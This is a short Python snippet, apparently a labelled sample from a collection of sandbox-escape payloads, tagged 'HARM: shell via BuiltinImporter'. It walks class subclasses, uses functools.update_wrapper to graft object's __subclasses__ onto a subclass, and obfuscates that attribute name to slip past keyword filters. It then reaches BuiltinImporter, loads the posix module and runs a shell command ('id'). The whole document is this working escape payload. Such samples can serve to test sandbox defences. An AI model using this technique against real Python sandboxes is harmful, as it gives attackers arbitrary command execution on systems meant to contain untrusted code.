# HARM: shell via BuiltinImporter | TRICK: the walker itself patches the loop variable (subclass) with functools.update_wrapper before recursing
import functools
class Base: pass
class A(Base): pass
def walk(cls=Base, depth=0):
    for sub in cls.__subclasses__():
        if depth == 0:
            functools.update_wrapper(sub, object, assigned=('__sub' 'classes__'[::-1][::-1],), updated=())
        yield sub
        if depth < 1:
            yield from walk(sub, depth + 1)
for k in walk():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
        break
